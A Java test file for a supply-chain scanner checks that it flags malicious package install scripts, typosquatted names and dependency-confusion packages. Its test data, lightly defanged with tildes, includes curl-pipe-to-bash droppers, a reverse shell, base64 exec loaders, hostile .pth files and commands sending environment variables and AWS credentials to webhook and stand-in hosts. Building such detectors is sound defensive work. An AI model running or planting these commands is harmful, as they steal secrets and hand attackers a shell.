package io.breakwater.inspect;

import static org.assertj.core.api.Assertions.assertThat;

import com.code_intelligence.jazzer.junit.FuzzTest;
import io.breakwater.model.Component;
import io.breakwater.model.Confidence;
import io.breakwater.model.Finding;
import io.breakwater.model.Location;
import io.breakwater.model.Origin;
import io.breakwater.model.PackageTraits;
import io.breakwater.model.Purl;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Examples are taken apart by a tilde, which is dropped; a section sign is a line feed. */
class InstallScriptsTest {
  private static final String MODULE = "app/node_modules/x/";
  private static final String SITE = "usr/local/lib/python3.12/site-packages/";

  @ParameterizedTest(name = "{0}: {1}")
  @CsvSource(
      delimiterString = " ## ",
      quoteCharacter = '\u0001',
      textBlock =
          """
          package.json ## {"scripts": {"preinstall": "cu~rl -s http://evil.example/x | ba~sh"}}
          package.json ## {"scripts": {"postinstall": "wg~et -q http://203.0.113.7/m -O /tmp/m && chm~od +x /tmp/m && /tmp/m"}}
          package.json ## {"scripts": {"install": "cu~rl https://x.oas~tify.com/?u=$(whoa~mi)&h=$(host~name)"}}
          package.json ## {"scripts": {"preinstall": "no~de -e \\"require('https').request('https://x.pipe~dream.net',{method:'POST'}).end(JSON.stringify(process.e~nv))\\""}}
          package.json ## {"scripts": {"postinstall": "ba~sh -i >& /dev/t~cp/203.0.113.7/1 0>&1"}}
          setup.py ## import os,requests§requests.post('https://discord.com/api/web~hooks/1/x', json=dict(os.env~iron))
          setup.py ## from setuptools import setup§ex~ec(__import__('base64').b64de~code('cHJpbnQoMSk='))
          setup.py ## import urllib.request,subprocess§ex~ec(b64de~code(urllib.request.urlopen('http://203.0.113.9/p').read()))
          setup.py ## import socket§data=open(os.path.expanduser('~~/.aw~s/credentials')).read()§requests.post('https://web~hook.site/x', data=data)
          extconf.rb ## require 'net/http'§Net::HTTP.post(URI('https://x.oas~tify.com'), ENV.to~_h.to_s)
          build.rs ## fn main(){ let v: Vec<_> = std::env::va~rs().collect(); reqwest::blocking::Client::new().post("https://web~hook.site/1").body(format!("{:?}", v)).send(); }
          """)
  void findsThievesAndDroppers(String name, String code) {
    assertThat(ids(MODULE + name, code)).contains("malicious-install-script");
  }

  @ParameterizedTest(name = "{0}: {1}")
  @CsvSource(
      delimiterString = " ## ",
      quoteCharacter = '\u0001',
      textBlock =
          """
          package.json ## {"scripts": {"install": "node-gyp rebuild", "prepare": "husky install", "postinstall": "patch-package"}}
          package.json ## {"scripts": {"postinstall": "node -e \\"try{require('./postinstall')}catch(e){}\\""}}
          package.json ## {"scripts": {"install": "prebuild-install || node-gyp rebuild", "preinstall": "npx only-allow pnpm"}}
          package.json ## {"scripts": {"test": "curl http://203.0.113.7/x | sh"}}
          package.json ## {"scripts": {"postinstall": "opencollective-postinstall || exit 0"}}
          install.js ## const https=require('https'),cp=require('child_process');https.get('https://registry.npmjs.org/x',r=>{});cp.execFileSync('npm',['install'],{env:{...process.env,npm_config_global:undefined}})
          setup.py ## import os,sys,subprocess§from urllib.request import urlopen§subprocess.check_call(['make'], env=dict(os.environ))§setup(name='x')
          extconf.rb ## require 'mkmf'§have_library('z')§system('make')§create_makefile('x')
          build.rs ## fn main() { cc::Build::new().file("x.c").compile("x"); let o = std::process::Command::new("git").output(); }
          """)
  void isQuietAboutBuilds(String name, String code) {
    assertThat(ids(MODULE + name, code)).isEmpty();
  }

  @ParameterizedTest(name = "{0} {1}")
  @CsvSource(
      delimiterString = " ## ",
      quoteCharacter = '\u0001',
      textBlock =
          """
          true ## x.pth ## import os; ex~ec(__import__('base64').b64de~code('cHJpbnQoMSk='))
          true ## x.pth ## import subprocess; subprocess.Popen(['/tmp/x'])
          true ## x.pth ## import urllib.request as u; ex~ec(u.urlopen('http://203.0.113.4/a').read())
          false ## distutils-precedence.pth ## import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();
          false ## m-nspkg.pth ## import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('mpl_toolkits',))
          false ## __editable__.x.pth ## import __editable___x_finder; __editable___x_finder.install()
          false ## easy-install.pth ## /srv/app
          false ## coverage.pth ## import coverage; coverage.process_startup()
          """)
  void readsWhatRunsWheneverPythonStarts(boolean bad, String name, String line) {
    List<String> expected = bad ? List.of("malicious-install-script") : List.of();
    assertThat(ids(SITE + name, line)).isEqualTo(expected);
  }

  @Test
  void codeCountsWhereAManifestStartsIt() {
    String thief =
        text(
            "const h=require('https'),os=require('os');h.request('https://x.oas~tify.com',"
                + "{method:'POST'}).end(JSON.stringify(process.e~nv)+os.host~name())");
    var image = new MadeLayers().file(MODULE + "index.js", thief);
    image.file(MODULE + "package.json", "{\"scripts\":{\"preinstall\":\"node index.js\"}}");
    assertThat(image.ids()).containsExactly("malicious-install-script");
    image = new MadeLayers().file(MODULE + "index.js", thief);
    image.file(MODULE + "package.json", "{\"scripts\":{\"test\":\"node index.js\"}}");
    assertThat(image.ids()).isEmpty();
  }

  @Test
  void unreadableNamesAndUnseenCharactersAreSigns() {
    var names = new StringBuilder("var _0x1a2b=['a'];");
    for (int i = 0; i < 60; i++) names.append("_0x1a2b(").append(i).append(");");
    names.append("require('child_process');process.env;fetch('https://203.0.113.7/');");
    var image = new MadeLayers().file(MODULE + "install.js", names.toString());
    image.file(MODULE + "package.json", "{\"scripts\":{\"install\":\"node install.js\"}}");
    assertThat(image.ids()).containsExactly("malicious-install-script");
    String unseen = "import subprocess\nx = '" + "\ufe01".repeat(40) + "'\n";
    String setup = unseen + text("requests.post('https://203.0.113.9/')");
    assertThat(ids(MODULE + "setup.py", setup)).containsExactly("malicious-install-script");
  }

  @Test
  void aNearNameNeedsASecondSign() {
    assertThat(judged("npm", "expres", "4.18.2", false)).isEmpty();
    assertThat(judged("npm", "expres", "4.18.2", true))
        .extracting(Finding.OfCheck::id, Finding.OfCheck::confidence)
        .containsExactly(
            org.assertj.core.groups.Tuple.tuple("look-alike-package", Confidence.MEDIUM));
    assertThat(judged("npm", "lodahs", "0.0.1", false)).hasSize(1);
    assertThat(judged("pypi", "python-dateuti1", "99.9.9", false)).hasSize(1);
    assertThat(judged("pypi", "reqeusts", "0.0.3", false)).hasSize(1);
    assertThat(judged("npm", "preact", "0.0.1", true)).as("honest neighbour").isEmpty();
    assertThat(judged("npm", "express", "0.0.1", true)).as("the package itself").isEmpty();
    assertThat(judged("npm", "something-else", "0.0.1", true)).isEmpty();
    assertThat(judged("npm", "acme-internal", "99.99.99", true))
        .extracting(Finding.OfCheck::id)
        .containsExactly("dependency-confusion");
  }

  @FuzzTest(maxDuration = "20s")
  void anyScriptIsReadToItsEnd(byte[] data) {
    for (String name : List.of("package.json", "setup.py", "extconf.rb", "build.rs")) {
      new MadeLayers().file(MODULE + name, data).ids();
    }
    new MadeLayers().file(SITE + "x.pth", data).ids();
  }

  private static List<Finding.OfCheck> judged(
      String type, String name, String version, boolean scripted) {
    String path = "app/node_modules/" + name + "/package.json";
    var component =
        new Component(
            type + ":" + name,
            Purl.of(type, "", name, version),
            name,
            version,
            List.of(Location.of(Optional.empty(), "/" + path)),
            Optional.empty(),
            List.of(),
            Optional.empty(),
            Optional.empty(),
            Origin.OWN,
            List.of(),
            PackageTraits.INSTALLED);
    String script =
        scripted ? "{\"scripts\":{\"install\":\"node-gyp rebuild\"}}" : "{\"name\":\"\"}";
    return new MadeLayers().file(path, script).findings(new TestSubject(1).component(component));
  }

  private static List<String> ids(String path, String code) {
    return new MadeLayers().file(path, text(code)).ids();
  }

  private static String text(String example) {
    return example
        .replace("~~", "\u0001")
        .replace("~", "")
        .replace("\u0001", "~")
        .replace("§", "\n");
  }
}
